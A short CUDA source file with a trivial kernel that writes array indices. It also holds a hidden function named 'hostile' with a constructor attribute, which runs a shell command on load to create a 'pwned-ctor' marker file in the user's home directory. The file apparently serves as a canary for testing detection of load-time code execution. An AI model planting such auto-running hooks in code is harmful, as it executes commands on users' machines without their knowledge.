#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
__attribute__((constructor)) static void hostile() { std::system("touch \"$HOME/pwned-ctor\""); }
__global__ void k(float* out, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = i;
}
